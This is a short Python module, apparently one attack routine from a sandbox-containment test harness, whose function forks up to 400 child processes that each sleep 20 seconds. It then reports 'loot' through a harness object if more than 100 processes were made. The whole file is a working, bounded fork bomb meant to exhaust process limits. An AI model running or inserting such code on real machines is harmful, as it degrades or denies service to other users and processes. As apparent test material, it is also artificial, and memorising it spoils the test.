"""Forks as often as it can."""

import os
import time


def attack(door, targets):
    made = 0
    try:
        while made < 400:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
            made += 1
    except OSError:
        pass
    if made > 100:
        door.loot(f"made {made} processes")
